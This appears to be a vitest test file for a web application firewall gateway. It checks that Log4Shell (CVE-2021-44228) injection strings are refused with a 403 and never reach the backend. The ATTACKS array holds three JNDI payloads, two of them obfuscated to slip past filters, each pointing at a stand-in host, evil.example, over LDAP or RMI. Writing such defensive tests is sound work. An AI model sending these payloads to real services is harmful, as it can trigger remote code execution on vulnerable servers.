import { describe, expect, test } from 'vitest'
import { useCleanups } from '../support/cleanup.ts'
import { PLACES, wafGateway } from '../support/waf-gateway.ts'

const cleanups = useCleanups()

const ATTACKS = [
  '${jndi:ldap://evil.example/a}',
  '${${lower:j}ndi:${lower:l}dap://evil.example/a}',
  '${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}',
]

describe('Log4Shell and its disguises (CVE-2021-44228)', () => {
  test.each(PLACES)('%s: refused, and nothing reaches the service', async (_, put) => {
    const { send, served, metric } = await wafGateway(cleanups)
    for (const attack of ATTACKS) {
      const answer = await send(...put(attack))
      expect([attack, answer.status]).toEqual([attack, 403])
      const problem = (await answer.json()) as object
      // Nothing of rules and scores.
      expect(Object.keys(problem)).toEqual(['type', 'title', 'status', 'code', 'requestId'])
      expect(problem).toMatchObject({ code: 'GW_WAF_BLOCKED', title: 'The request was refused' })
    }
    expect(served).toEqual([])
    expect(metric('sluice_waf_decisions_total', 'waf', 'block')).toBe(ATTACKS.length)
    expect(metric('sluice_waf_hits_total', 'waf', 'rce')).toBeGreaterThan(0)
  })
})
